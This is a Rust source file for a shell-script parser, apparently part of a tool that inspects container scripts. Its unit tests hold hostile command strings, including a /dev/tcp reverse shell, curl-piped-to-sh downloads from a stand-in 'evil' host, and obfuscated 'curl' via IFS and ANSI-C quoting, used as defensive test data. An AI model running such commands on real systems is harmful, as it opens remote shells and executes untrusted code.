//! A POSIX-ish shell parser for the scripts a container runs (`sh -c '...'`, scripts from
//! ConfigMaps), good enough to see structure: simple commands with their words after quote
//! removal and expansion of known variables, pipelines, lists, redirections, here-docs and
//! here-strings, command and process substitutions, subshells and groups.
//!
//! Output is a flat list of [`Cmd`]s in source order; a command inside a substitution, a
//! subshell or a group points at its parent. Every word keeps its byte span in the script.
//!
//! Hostile input: nesting is depth-limited ([`MAX_DEPTH`]), the number of commands and the
//! size of expanded text are capped, every loop consumes input, and nothing panics. A
//! malformed script (unbalanced quote, unclosed substitution) yields what was parsed plus
//! [`Parsed::errors`].

use std::collections::BTreeMap;
use std::ops::Range;

/// Deepest nesting of substitutions, subshells and groups that is parsed.
pub const MAX_DEPTH: usize = 24;
/// At most this many commands are kept from one script.
pub const MAX_COMMANDS: usize = 4096;
/// At most this many bytes of variable values are expanded into one script's words.
pub const MAX_EXPANDED: usize = 1 << 20;

/// One field of a simple command after quote removal and expansion.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Word {
    /// The value (unknown expansions contribute nothing).
    pub text: String,
    /// Bytes of the script this word was written at.
    pub span: Range<usize>,
    /// Contains an expansion whose value is not known (`$1`, `$(...)`, an unset variable).
    pub dynamic: bool,
    /// Some part of it was quoted.
    pub quoted: bool,
}

/// How a command's input or output is redirected.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redirect {
    /// The file descriptor written before the operator, if any.
    pub fd: Option<u32>,
    /// `>`, `>>`, `>|`, `<`, `<>`, `<&`, `>&`, `&>`, `&>>`, `<<`, `<<-`, `<<<`.
    pub op: &'static str,
    /// The target (file, descriptor, here-doc delimiter or here-string).
    pub target: Word,
    /// A here-doc's body and its byte range in the script.
    pub body: Option<(String, Range<usize>)>,
}

/// How a command is nested in another.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Via {
    /// `$(...)` or backticks in one of the parent's words.
    CommandSub,
    /// `<(...)`: the parent reads this command's output as a file.
    ProcSubIn,
    /// `>(...)`: the parent writes to this command's input.
    ProcSubOut,
    /// `( ... )` or `{ ...; }`: the parent is the group.
    Group,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Cmd {
    /// Words after assignments (program first). Empty for a group or a bare assignment.
    pub words: Vec<Word>,
    /// `NAME=value` prefixes.
    pub assigns: Vec<(String, Word)>,
    pub redirects: Vec<Redirect>,
    /// A subshell or brace group (its commands point at it).
    pub group: bool,
    /// Pipeline number (unique per script) and position in it.
    pub pipeline: usize,
    pub stage: usize,
    /// Parent command and how this one is nested in it.
    pub parent: Option<(usize, Via)>,
    /// Bytes of the script the command spans.
    pub span: Range<usize>,
}

#[derive(Clone, Debug, Default)]
pub struct Parsed {
    pub cmds: Vec<Cmd>,
    pub errors: Vec<(usize, String)>,
    /// Variables as the script leaves them (the known environment plus its assignments).
    pub vars: BTreeMap<String, String>,
}

impl Parsed {
    /// Commands of pipeline `p`, in stage order.
    pub fn pipeline(&self, p: usize) -> impl Iterator<Item = (usize, &Cmd)> {
        self.cmds
            .iter()
            .enumerate()
            .filter(move |(_, c)| c.pipeline == p)
    }

    /// Is `c` nested (at any depth) inside `ancestor`?
    pub fn is_within(&self, mut c: usize, ancestor: usize) -> bool {
        let mut steps = 0;
        while let Some((p, _)) = self.cmds.get(c).and_then(|x| x.parent) {
            if p == ancestor {
                return true;
            }
            c = p;
            steps += 1;
            if steps > MAX_DEPTH * 4 {
                break;
            }
        }
        false
    }
}

/// Parse `script` with the variables of `env` known.
pub fn parse(script: &str, env: &BTreeMap<String, String>) -> Parsed {
    let mut p = Parser {
        s: script.as_bytes(),
        pos: 0,
        end: script.len(),
        out: Parsed {
            vars: env.clone(),
            ..Parsed::default()
        },
        pipelines: 0,
        expanded: 0,
        pending: Vec::new(),
        case_depth: 0,
    };
    let _ = p.list(None, 0, None);
    p.out
}

struct Parser<'a> {
    s: &'a [u8],
    pos: usize,
    /// Parsing stops here (the end of a backtick region or the script).
    end: usize,
    out: Parsed,
    pipelines: usize,
    expanded: usize,
    /// Here-docs whose body starts after the next newline: (cmd, redirect, delimiter, strip tabs).
    pending: Vec<(usize, usize, String, bool)>,
    /// Open `case` statements at the current nesting level (their patterns end with `)`).
    case_depth: usize,
}

/// Redirection operators, longest first.
const OPS: &[&str] = &[
    "&>>", "<<<", "<<-", "&>", ">>", ">|", "<>", "<&", ">&", "<<", ">", "<",
];

fn is_meta(b: u8) -> bool {
    matches!(
        b,
        b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')'
    )
}

fn is_name_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

const RESERVED_PREFIX: &[&str] = &[
    "if", "then", "else", "elif", "do", "while", "until", "!", "time",
];
const RESERVED_ALONE: &[&str] = &["fi", "done", "esac", "}", "in"];

/// A word being built: fields (split on whitespace of unquoted expansions).
struct Builder {
    fields: Vec<String>,
    cur: String,
    started: bool,
    dynamic: bool,
    quoted: bool,
}

impl Builder {
    fn new() -> Builder {
        Builder {
            fields: Vec::new(),
            cur: String::new(),
            started: false,
            dynamic: false,
            quoted: false,
        }
    }
    fn push(&mut self, c: char) {
        self.cur.push(c);
        self.started = true;
    }
    fn push_str(&mut self, s: &str) {
        self.cur.push_str(s);
        self.started = true;
    }
    /// Append an unquoted expansion: whitespace splits fields.
    fn push_split(&mut self, s: &str) {
        for ch in s.chars() {
            if matches!(ch, ' ' | '\t' | '\n') {
                if self.started || !self.cur.is_empty() {
                    self.fields.push(std::mem::take(&mut self.cur));
                    self.started = false;
                }
            } else {
                self.push(ch);
            }
        }
    }
    fn finish(mut self) -> (Vec<String>, bool, bool) {
        if self.started || !self.cur.is_empty() {
            self.fields.push(self.cur);
        }
        (self.fields, self.dynamic, self.quoted)
    }
}

impl Parser<'_> {
    fn peek(&self) -> Option<u8> {
        (self.pos < self.end).then(|| self.s[self.pos])
    }
    fn at(&self, i: usize) -> Option<u8> {
        let j = self.pos + i;
        (j < self.end).then(|| self.s[j])
    }
    fn starts(&self, t: &str) -> bool {
        self.s
            .get(self.pos..self.end)
            .is_some_and(|r| r.starts_with(t.as_bytes()))
    }
    fn err(&mut self, at: usize, msg: &str) {
        if self.out.errors.len() < 32 {
            self.out.errors.push((at, msg.to_string()));
        }
    }
    fn text(&self, r: Range<usize>) -> String {
        String::from_utf8_lossy(&self.s[r.start.min(self.s.len())..r.end.min(self.s.len())])
            .into_owned()
    }

    /// Skip blanks, line continuations and comments (not newlines).
    fn blanks(&mut self) {
        while let Some(b) = self.peek() {
            match b {
                b' ' | b'\t' | b'\r' => self.pos += 1,
                b'\\' if self.at(1) == Some(b'\n') => self.pos += 2,
                b'#' => {
                    while let Some(b) = self.peek() {
                        if b == b'\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                _ => break,
            }
        }
    }

    /// Parse a list until `close` (`)`, `}` as a word) or the end; commands get `parent`.
    fn list(&mut self, close: Option<u8>, depth: usize, parent: Option<(usize, Via)>) -> bool {
        loop {
            self.blanks();
            let Some(b) = self.peek() else { return false };
            match b {
                b'\n' => {
                    self.pos += 1;
                    self.heredocs();
                    continue;
                }
                b';' | b'&' | b'|' => {
                    self.pos += 1;
                    continue;
                }
                b')' if self.case_depth > 0 => {
                    // The end of a `case` pattern.
                    self.pos += 1;
                    continue;
                }
                b')' if close == Some(b')') => {
                    self.pos += 1;
                    return true;
                }
                b')' => {
                    self.err(self.pos, "unexpected `)`");
                    self.pos += 1;
                    continue;
                }
                _ => {}
            }
            if close == Some(b'}') && b == b'}' && self.at(1).is_none_or(is_meta) {
                self.pos += 1;
                return true;
            }
            let before = self.pos;
            self.pipeline(close, depth, parent);
            if self.pos == before {
                // Nothing consumed: skip one byte so the loop always ends.
                self.pos += 1;
            }
            if self.out.cmds.len() >= MAX_COMMANDS {
                self.err(self.pos, "too many commands; the rest is not analysed");
                self.pos = self.end;
                return false;
            }
        }
    }

    fn pipeline(&mut self, close: Option<u8>, depth: usize, parent: Option<(usize, Via)>) {
        let id = self.pipelines;
        self.pipelines += 1;
        let mut stage = 0;
        loop {
            self.command(close, depth, parent, id, stage);
            self.blanks();
            if self.peek() == Some(b'|') && self.at(1) != Some(b'|') {
                self.pos += 1;
                if self.peek() == Some(b'&') {
                    self.pos += 1;
                }
                stage += 1;
                // A newline may follow `|`.
                loop {
                    self.blanks();
                    if self.peek() == Some(b'\n') {
                        self.pos += 1;
                        self.heredocs();
                    } else {
                        break;
                    }
                }
                if self.out.cmds.len() >= MAX_COMMANDS {
                    return;
                }
                continue;
            }
            return;
        }
    }

    fn push_cmd(
        &mut self,
        parent: Option<(usize, Via)>,
        pipeline: usize,
        stage: usize,
        start: usize,
    ) -> usize {
        self.out.cmds.push(Cmd {
            words: Vec::new(),
            assigns: Vec::new(),
            redirects: Vec::new(),
            group: false,
            pipeline,
            stage,
            parent,
            span: start..start,
        });
        self.out.cmds.len() - 1
    }

    fn command(
        &mut self,
        close: Option<u8>,
        depth: usize,
        parent: Option<(usize, Via)>,
        pipeline: usize,
        stage: usize,
    ) {
        self.blanks();
        let start = self.pos;
        let me = self.push_cmd(parent, pipeline, stage, start);
        // Subshell or group.
        let brace = self.peek() == Some(b'{') && self.at(1).is_some_and(is_meta);
        if self.peek() == Some(b'(') || brace {
            self.out.cmds[me].group = true;
            let close_with = if brace { b'}' } else { b')' };
            self.pos += 1;
            if depth >= MAX_DEPTH {
                self.err(start, "nesting too deep; the rest is not analysed");
                self.pos = self.end;
                return;
            }
            let cases = std::mem::take(&mut self.case_depth);
            if !self.list(Some(close_with), depth + 1, Some((me, Via::Group))) {
                self.err(start, "unclosed group");
            }
            self.case_depth = cases;
            self.redirections_only(me, depth);
            self.out.cmds[me].span = start..self.pos;
            return;
        }
        let mut leading = true;
        loop {
            self.blanks();
            let Some(b) = self.peek() else { break };
            if matches!(b, b'\n' | b';' | b'|' | b')') {
                break;
            }
            if b == b'&' && self.at(1) != Some(b'>') {
                break;
            }
            if close == Some(b'}') && b == b'}' && self.at(1).is_none_or(is_meta) && leading {
                break;
            }
            if self.redirection(me, depth) {
                continue;
            }
            if matches!(b, b'(' | b'<' | b'>') && !self.starts("<(") && !self.starts(">(") {
                self.err(self.pos, "unexpected `(`");
                self.pos += 1;
                continue;
            }
            let wstart = self.pos;
            let fields = self.word(me, depth);
            let (texts, dynamic, quoted) = fields;
            let span = wstart..self.pos;
            if self.pos == wstart {
                self.pos += 1;
                continue;
            }
            // Assignment prefix?
            if leading
                && self.out.cmds[me].words.is_empty()
                && !quoted_name(&self.s[wstart..self.pos])
                && let Some(eq) = assignment(&self.s[wstart..self.pos])
            {
                let name = self.text(wstart..wstart + eq);
                let value = texts.join(" ");
                let value = value.split_once('=').map_or(String::new(), |x| x.1.into());
                let w = Word {
                    text: value,
                    span: span.clone(),
                    dynamic,
                    quoted,
                };
                self.out.cmds[me].assigns.push((name, w));
                continue;
            }
            if leading && self.out.cmds[me].words.is_empty() && texts.len() == 1 && !quoted {
                let t = texts[0].as_str();
                if RESERVED_PREFIX.contains(&t) {
                    continue;
                }
                if t == "esac" {
                    self.case_depth = self.case_depth.saturating_sub(1);
                }
                if RESERVED_ALONE.contains(&t) {
                    continue;
                }
                if t == "case" {
                    self.case_depth += 1;
                }
                if t == "{" {
                    continue;
                }
            }
            leading = false;
            for text in texts {
                self.out.cmds[me].words.push(Word {
                    text,
                    span: span.clone(),
                    dynamic,
                    quoted,
                });
            }
        }
        self.out.cmds[me].span = start..self.pos;
        // A bare assignment sets shell variables for what follows.
        if self.out.cmds[me].words.is_empty() {
            let assigns: Vec<(String, Word)> = self.out.cmds[me].assigns.clone();
            for (n, w) in assigns {
                if w.dynamic {
                    self.out.vars.remove(&n);
                } else {
                    self.out.vars.insert(n, w.text);
                }
            }
        } else if self.out.cmds[me].words[0].text == "export" {
            let words: Vec<Word> = self.out.cmds[me].words[1..].to_vec();
            for w in words {
                if let Some((n, v)) = w.text.split_once('=')
                    && !n.is_empty()
                    && n.bytes().all(is_name)
                {
                    self.out.vars.insert(n.to_string(), v.to_string());
                }
            }
        }
    }

    fn redirections_only(&mut self, me: usize, depth: usize) {
        loop {
            self.blanks();
            if !self.redirection(me, depth) {
                return;
            }
        }
    }

    /// A redirection at the cursor, if any.
    fn redirection(&mut self, me: usize, depth: usize) -> bool {
        let save = self.pos;
        let mut fd = None;
        let mut n = 0usize;
        while let Some(b) = self.at(n) {
            if b.is_ascii_digit() && n < 4 {
                n += 1;
            } else {
                break;
            }
        }
        if n > 0 && matches!(self.at(n), Some(b'<' | b'>')) {
            fd = std::str::from_utf8(&self.s[self.pos..self.pos + n])
                .ok()
                .and_then(|t| t.parse().ok());
            self.pos += n;
        }
        if self.starts("<(") || self.starts(">(") {
            self.pos = save;
            return false;
        }
        let Some(op) = OPS.iter().find(|o| self.starts(o)).copied() else {
            self.pos = save;
            return false;
        };
        self.pos += op.len();
        self.blanks();
        let wstart = self.pos;
        let (texts, dynamic, quoted) = self.word(me, depth);
        let target = Word {
            text: texts.join(" "),
            span: wstart..self.pos,
            dynamic,
            quoted,
        };
        if self.pos == wstart {
            self.err(save, "redirection without a target");
        }
        let is_heredoc = matches!(op, "<<" | "<<-");
        let cmd = &mut self.out.cmds[me];
        cmd.redirects.push(Redirect {
            fd,
            op,
            target: target.clone(),
            body: None,
        });
        if is_heredoc {
            let r = cmd.redirects.len() - 1;
            self.pending.push((me, r, target.text, op == "<<-"));
        }
        true
    }

    /// Read the bodies of pending here-docs (the cursor is at the start of a line).
    fn heredocs(&mut self) {
        let pending = std::mem::take(&mut self.pending);
        for (cmd, r, delim, strip) in pending {
            let start = self.pos;
            let mut body_end = self.end;
            let mut next = self.end;
            let mut line_start = self.pos;
            while line_start < self.end {
                let line_end = self.s[line_start..self.end]
                    .iter()
                    .position(|&b| b == b'\n')
                    .map_or(self.end, |i| line_start + i);
                let mut line = &self.s[line_start..line_end];
                if strip {
                    while let [b'\t', rest @ ..] = line {
                        line = rest;
                    }
                }
                let line = line.strip_suffix(b"\r").unwrap_or(line);
                if line == delim.as_bytes() {
                    body_end = line_start;
                    next = (line_end + 1).min(self.end);
                    break;
                }
                line_start = line_end + 1;
            }
            if next == self.end && body_end == self.end {
                self.err(start, "here-document without its closing delimiter");
            }
            let body = self.text(start..body_end);
            if let Some(red) = self
                .out
                .cmds
                .get_mut(cmd)
                .and_then(|c| c.redirects.get_mut(r))
            {
                red.body = Some((body, start..body_end));
            }
            self.pos = next;
        }
    }

    fn expand_var(&mut self, name: &str, b: &mut Builder, quoted: bool) {
        let val = if name == "IFS" {
            Some(self.out.vars.get("IFS").cloned().unwrap_or(" \t\n".into()))
        } else {
            self.out.vars.get(name).cloned()
        };
        match val {
            Some(v) if self.expanded + v.len() <= MAX_EXPANDED => {
                self.expanded += v.len();
                if quoted {
                    b.push_str(&v);
                } else {
                    b.push_split(&v);
                }
            }
            _ => {
                b.dynamic = true;
                b.started = true;
            }
        }
    }

    /// `$...` at the cursor (the `$` itself included).
    fn dollar(&mut self, me: usize, depth: usize, b: &mut Builder, quoted: bool) {
        let start = self.pos;
        self.pos += 1;
        match self.peek() {
            Some(b'(') if self.at(1) == Some(b'(') => {
                // Arithmetic: skip to the matching `))`.
                self.pos += 2;
                let mut level = 0i32;
                while let Some(c) = self.peek() {
                    self.pos += 1;
                    match c {
                        b'(' => level += 1,
                        b')' if level > 0 => level -= 1,
                        b')' if self.peek() == Some(b')') => {
                            self.pos += 1;
                            break;
                        }
                        _ => {}
                    }
                }
                b.dynamic = true;
                b.started = true;
            }
            Some(b'(') => {
                self.pos += 1;
                b.dynamic = true;
                b.started = true;
                self.sub(me, depth, Via::CommandSub, start);
            }
            Some(b'{') => {
                self.pos += 1;
                let ns = self.pos;
                while self.peek().is_some_and(|c| c != b'}') {
                    self.pos += 1;
                }
                if self.peek().is_none() {
                    self.err(start, "unclosed `${`");
                }
                let inner = self.text(ns..self.pos);
                self.pos = (self.pos + 1).min(self.end);
                let name_len = inner.bytes().take_while(|c| is_name(*c)).count();
                let (name, rest) = inner.split_at(name_len);
                if self.out.vars.contains_key(name) || name == "IFS" || rest.is_empty() {
                    if rest.is_empty() || rest.starts_with(":-") || rest.starts_with('-') {
                        self.expand_var(name, b, quoted);
                    } else {
                        b.dynamic = true;
                        b.started = true;
                    }
                } else if let Some(d) = rest.strip_prefix(":-").or_else(|| rest.strip_prefix('-')) {
                    // Default value of an unknown variable.
                    if quoted {
                        b.push_str(d);
                    } else {
                        b.push_split(d);
                    }
                } else {
                    b.dynamic = true;
                    b.started = true;
                }
            }
            Some(b'\'') if !quoted => {
                self.pos += 1;
                self.ansi_c(b);
            }
            Some(c) if is_name_start(c) => {
                let ns = self.pos;
                while self.peek().is_some_and(is_name) {
                    self.pos += 1;
                }
                let name = self.text(ns..self.pos);
                self.expand_var(&name, b, quoted);
            }
            Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(&c) => {
                self.pos += 1;
                b.dynamic = true;
                b.started = true;
            }
            _ => b.push('$'),
        }
    }

    /// `$'...'` after the opening quote.
    fn ansi_c(&mut self, out: &mut Builder) {
        let start = self.pos;
        out.quoted = true;
        out.started = true;
        let mut bytes = Vec::new();
        loop {
            let Some(ch) = self.peek() else {
                self.err(start, "unclosed `$'`");
                break;
            };
            self.pos += 1;
            match ch {
                b'\'' => break,
                b'\\' => {
                    let Some(esc) = self.peek() else { break };
                    self.pos += 1;
                    match esc {
                        b'n' => bytes.push(b'\n'),
                        b't' => bytes.push(b'\t'),
                        b'r' => bytes.push(b'\r'),
                        b'a' => bytes.push(7),
                        b'b' => bytes.push(8),
                        b'e' | b'E' => bytes.push(27),
                        b'f' => bytes.push(12),
                        b'v' => bytes.push(11),
                        b'x' => {
                            let mut v = 0u32;
                            let mut n = 0;
                            while n < 2 && self.peek().is_some_and(|h| h.is_ascii_hexdigit()) {
                                v = v * 16 + char::from(self.s[self.pos]).to_digit(16).unwrap_or(0);
                                self.pos += 1;
                                n += 1;
                            }
                            bytes.push(u8::try_from(v).unwrap_or(b'?'));
                        }
                        b'u' | b'U' => {
                            let max = if esc == b'u' { 4 } else { 8 };
                            let mut v = 0u32;
                            let mut n = 0;
                            while n < max && self.peek().is_some_and(|h| h.is_ascii_hexdigit()) {
                                v = v.wrapping_mul(16)
                                    + char::from(self.s[self.pos]).to_digit(16).unwrap_or(0);
                                self.pos += 1;
                                n += 1;
                            }
                            let ch = char::from_u32(v).unwrap_or('\u{FFFD}');
                            let mut buf = [0u8; 4];
                            bytes.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                        }
                        b'0'..=b'7' => {
                            let mut v = u32::from(esc - b'0');
                            let mut n = 1;
                            while n < 3 && self.peek().is_some_and(|h| (b'0'..=b'7').contains(&h)) {
                                v = v * 8 + u32::from(self.s[self.pos] - b'0');
                                self.pos += 1;
                                n += 1;
                            }
                            bytes.push(u8::try_from(v & 0xff).unwrap_or(b'?'));
                        }
                        other => bytes.push(other),
                    }
                }
                other => bytes.push(other),
            }
        }
        out.push_str(&String::from_utf8_lossy(&bytes));
    }

    /// Parse a `$(`/`<(`/`>(` body (cursor after the `(`) as nested commands of `me`.
    fn sub(&mut self, me: usize, depth: usize, via: Via, start: usize) {
        if depth >= MAX_DEPTH {
            self.err(start, "nesting too deep; the rest is not analysed");
            self.pos = self.end;
            return;
        }
        let saved = std::mem::take(&mut self.pending);
        let cases = std::mem::take(&mut self.case_depth);
        if !self.list(Some(b')'), depth + 1, Some((me, via))) {
            self.err(start, "unclosed substitution");
        }
        self.case_depth = cases;
        let inner = std::mem::replace(&mut self.pending, saved);
        self.pending.extend(inner);
    }

    /// Backticks (cursor after the opening one).
    fn backtick(&mut self, me: usize, depth: usize, b: &mut Builder) {
        let start = self.pos;
        let mut inner = Vec::new();
        let mut closed = false;
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                b'`' => {
                    closed = true;
                    break;
                }
                b'\\' if matches!(self.peek(), Some(b'`' | b'\\' | b'$')) => {
                    inner.push(self.s[self.pos]);
                    self.pos += 1;
                }
                _ => inner.push(c),
            }
        }
        if !closed {
            self.err(start, "unclosed backtick");
        }
        b.dynamic = true;
        b.started = true;
        if depth >= MAX_DEPTH {
            self.err(start, "nesting too deep; the rest is not analysed");
            return;
        }
        // Parse the unescaped text; its spans are offset into the backtick region.
        let inner_len = inner.len();
        let text = String::from_utf8_lossy(&inner).into_owned();
        let mut sub = Parser {
            s: text.as_bytes(),
            pos: 0,
            end: text.len(),
            out: Parsed {
                vars: std::mem::take(&mut self.out.vars),
                ..Parsed::default()
            },
            pipelines: self.pipelines,
            expanded: self.expanded,
            pending: Vec::new(),
            case_depth: 0,
        };
        let _ = sub.list(None, depth + 1, Some((usize::MAX, Via::CommandSub)));
        self.pipelines = sub.pipelines;
        self.expanded = sub.expanded;
        self.out.vars = std::mem::take(&mut sub.out.vars);
        let base = self.out.cmds.len();
        let end_pos = self.pos;
        let exact = inner_len == end_pos.saturating_sub(start + usize::from(closed));
        let shift = |r: &Range<usize>| {
            if exact {
                start + r.start..start + r.end
            } else {
                start..end_pos
            }
        };
        for mut c in sub.out.cmds {
            if self.out.cmds.len() >= MAX_COMMANDS {
                break;
            }
            c.parent = match c.parent {
                Some((usize::MAX, v)) => Some((me, v)),
                Some((p, v)) => Some((p + base, v)),
                None => Some((me, Via::CommandSub)),
            };
            c.span = shift(&c.span);
            for w in &mut c.words {
                w.span = shift(&w.span);
            }
            for (_, w) in &mut c.assigns {
                w.span = shift(&w.span);
            }
            for r in &mut c.redirects {
                r.target.span = shift(&r.target.span);
                if let Some((_, br)) = &mut r.body {
                    *br = shift(br);
                }
            }
            self.out.cmds.push(c);
        }
        for (at, e) in sub.out.errors {
            self.err(if exact { start + at } else { start }, &e);
        }
    }

    /// One word (cursor at its first byte). Returns fields, dynamic, quoted.
    fn word(&mut self, me: usize, depth: usize) -> (Vec<String>, bool, bool) {
        let mut b = Builder::new();
        // Process substitution as a whole word.
        if self.starts("<(") || self.starts(">(") {
            let via = if self.starts("<(") {
                Via::ProcSubIn
            } else {
                Via::ProcSubOut
            };
            let start = self.pos;
            self.pos += 2;
            self.sub(me, depth, via, start);
            b.push_str("/dev/fd/63");
            b.dynamic = true;
            return b.finish();
        }
        while let Some(c) = self.peek() {
            if is_meta(c) {
                break;
            }
            match c {
                b'\\' => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'\n') => self.pos += 1,
                        Some(_) => self.utf8_char(&mut b),
                        None => {}
                    }
                    b.quoted = true;
                }
                b'\'' => {
                    let start = self.pos;
                    self.pos += 1;
                    b.quoted = true;
                    b.started = true;
                    let from = self.pos;
                    while self.peek().is_some_and(|x| x != b'\'') {
                        self.pos += 1;
                    }
                    let t = self.text(from..self.pos);
                    b.push_str(&t);
                    if self.peek().is_none() {
                        self.err(start, "unclosed single quote");
                    } else {
                        self.pos += 1;
                    }
                }
                b'"' => {
                    let start = self.pos;
                    self.pos += 1;
                    b.quoted = true;
                    b.started = true;
                    loop {
                        let Some(d) = self.peek() else {
                            self.err(start, "unclosed double quote");
                            break;
                        };
                        match d {
                            b'"' => {
                                self.pos += 1;
                                break;
                            }
                            b'\\' => {
                                self.pos += 1;
                                match self.peek() {
                                    Some(b'\n') => self.pos += 1,
                                    Some(e @ (b'$' | b'`' | b'"' | b'\\')) => {
                                        b.push(char::from(e));
                                        self.pos += 1;
                                    }
                                    Some(_) => b.push('\\'),
                                    None => {}
                                }
                            }
                            b'$' => self.dollar(me, depth, &mut b, true),
                            b'`' => {
                                self.pos += 1;
                                self.backtick(me, depth, &mut b);
                            }
                            _ => self.utf8_char(&mut b),
                        }
                    }
                }
                b'$' => self.dollar(me, depth, &mut b, false),
                b'`' => {
                    self.pos += 1;
                    self.backtick(me, depth, &mut b);
                }
                _ => self.utf8_char(&mut b),
            }
        }
        b.finish()
    }

    /// Copy one UTF-8 character at the cursor.
    fn utf8_char(&mut self, b: &mut Builder) {
        let lead = self.s[self.pos];
        let len = match lead {
            0xC0..=0xDF => 2,
            0xE0..=0xEF => 3,
            0xF0..=0xF7 => 4,
            _ => 1,
        };
        let end = (self.pos + len).min(self.end);
        let t = self.text(self.pos..end);
        b.push_str(&t);
        self.pos = end;
    }
}

/// `NAME=` at the start of a raw word: the byte index of `=`.
fn assignment(raw: &[u8]) -> Option<usize> {
    let eq = raw.iter().position(|&b| b == b'=')?;
    (eq > 0 && is_name_start(raw[0]) && raw[..eq].iter().all(|b| is_name(*b))).then_some(eq)
}

/// Is the name part of a raw word quoted (`"A"=b` is not an assignment)?
fn quoted_name(raw: &[u8]) -> bool {
    let eq = raw.iter().position(|&b| b == b'=').unwrap_or(raw.len());
    raw[..eq]
        .iter()
        .any(|b| matches!(b, b'"' | b'\'' | b'\\' | b'$'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(s: &str) -> Parsed {
        parse(s, &BTreeMap::new())
    }

    fn argv(parsed: &Parsed) -> Vec<Vec<String>> {
        parsed
            .cmds
            .iter()
            .map(|c| c.words.iter().map(|w| w.text.clone()).collect())
            .collect()
    }

    #[test]
    fn quotes_are_removed_and_split_quotes_join() {
        let r = p(r#"c''url -fsSL "http://x/a b" 'it''s' \$HOME"#);
        assert_eq!(
            argv(&r),
            vec![vec!["curl", "-fsSL", "http://x/a b", "its", "$HOME"]]
        );
        assert!(r.errors.is_empty());
    }

    #[test]
    fn spans_point_at_source_words() {
        let s = "echo  'a b'  c";
        let r = p(s);
        let w = &r.cmds[0].words;
        assert_eq!(&s[w[1].span.clone()], "'a b'");
        assert_eq!(&s[w[2].span.clone()], "c");
    }

    #[test]
    fn ansi_c_quotes_decode() {
        let r = p(r"$'\x63url' $'\143\165' $'a\nb' $'\u0041'");
        assert_eq!(argv(&r), vec![vec!["curl", "cu", "a\nb", "A"]]);
    }

    #[test]
    fn ifs_and_known_variables_expand_and_split() {
        let mut env = BTreeMap::new();
        env.insert("URL".to_string(), "http://evil/x".to_string());
        let r = parse("curl${IFS}-s$IFS$URL|sh", &env);
        assert_eq!(
            argv(&r),
            vec![vec!["curl", "-s", "http://evil/x"], vec!["sh"]]
        );
        assert_eq!(r.cmds[1].pipeline, r.cmds[0].pipeline);
        assert_eq!(r.cmds[1].stage, 1);
    }

    #[test]
    fn assignments_set_variables_for_later_commands() {
        let r = p("U=http://h/p; X=$U/y wget $X; wget \"$U\" ${NOPE:-dflt}");
        assert_eq!(r.cmds[0].assigns[0].0, "U");
        assert_eq!(r.cmds[1].words[0].text, "wget");
        assert!(
            r.cmds[1].words[1].dynamic,
            "X is set for wget only, not for its arguments"
        );
        assert_eq!(r.cmds[1].assigns[0].1.text, "http://h/p/y");
        assert_eq!(argv(&r)[2], vec!["wget", "http://h/p", "dflt"]);
    }

    #[test]
    fn unknown_expansions_are_dynamic() {
        let r = p("echo $1 \"$(date)\" x");
        let w = &r.cmds[0].words;
        assert!(w[1].dynamic);
        assert!(w[2].dynamic);
        assert!(!w[3].dynamic);
        assert_eq!(r.cmds[1].words[0].text, "date");
        assert_eq!(r.cmds[1].parent, Some((0, Via::CommandSub)));
    }

    #[test]
    fn lists_and_pipelines() {
        let r = p("a && b || c; d & e\nf | g |& h");
        assert_eq!(argv(&r).len(), 8);
        let pipes: Vec<usize> = r.cmds.iter().map(|c| c.pipeline).collect();
        assert_eq!(pipes[5], pipes[6]);
        assert_eq!(pipes[6], pipes[7]);
        assert_ne!(pipes[0], pipes[1]);
        assert_eq!(r.cmds[7].stage, 2);
    }

    #[test]
    fn redirections_are_parsed() {
        let r = p("bash -i >& /dev/tcp/1.2.3.4/9 0>&1 2>>log <in");
        let c = &r.cmds[0];
        assert_eq!(argv(&r)[0], vec!["bash", "-i"]);
        let ops: Vec<(&str, Option<u32>, &str)> = c
            .redirects
            .iter()
            .map(|x| (x.op, x.fd, x.target.text.as_str()))
            .collect();
        assert_eq!(
            ops,
            vec![
                (">&", None, "/dev/tcp/1.2.3.4/9"),
                (">&", Some(0), "1"),
                (">>", Some(2), "log"),
                ("<", None, "in")
            ]
        );
    }

    #[test]
    fn here_strings_and_here_docs() {
        let s = "base64 -d <<< aGk= | sh\ncat <<-EOF > f\n\tline $X\n\tEOF\necho done";
        let r = p(s);
        assert_eq!(r.cmds[0].redirects[0].op, "<<<");
        assert_eq!(r.cmds[0].redirects[0].target.text, "aGk=");
        let hd = &r.cmds[2].redirects[0];
        assert_eq!(hd.op, "<<-");
        let (body, range) = hd.body.clone().unwrap();
        assert_eq!(body, "\tline $X\n");
        assert_eq!(&s[range], "\tline $X\n");
        assert_eq!(argv(&r)[3], vec!["echo", "done"]);
    }

    #[test]
    fn process_substitution_and_subshells() {
        let r = p("bash <(curl -s http://x) ; (cd /tmp && ./a) | sh; { wget x; }");
        assert_eq!(r.cmds[1].parent, Some((0, Via::ProcSubIn)));
        assert_eq!(argv(&r)[1], vec!["curl", "-s", "http://x"]);
        let group = r.cmds.iter().position(|c| c.group).unwrap();
        assert!(r.is_within(group + 1, group));
        let sh = r
            .cmds
            .iter()
            .position(|c| c.words.first().is_some_and(|w| w.text == "sh"))
            .unwrap();
        assert_eq!(r.cmds[sh].pipeline, r.cmds[group].pipeline);
        assert!(argv(&r).contains(&vec!["wget".to_string(), "x".to_string()]));
    }

    #[test]
    fn backticks_are_parsed_recursively() {
        let s = "echo `curl -s http://x | sh`";
        let r = p(s);
        let curl = &r.cmds[1];
        assert_eq!(curl.parent, Some((0, Via::CommandSub)));
        assert_eq!(&s[curl.words[0].span.clone()], "curl");
        assert_eq!(r.cmds[2].words[0].text, "sh");
        assert_eq!(r.cmds[2].pipeline, curl.pipeline);
    }

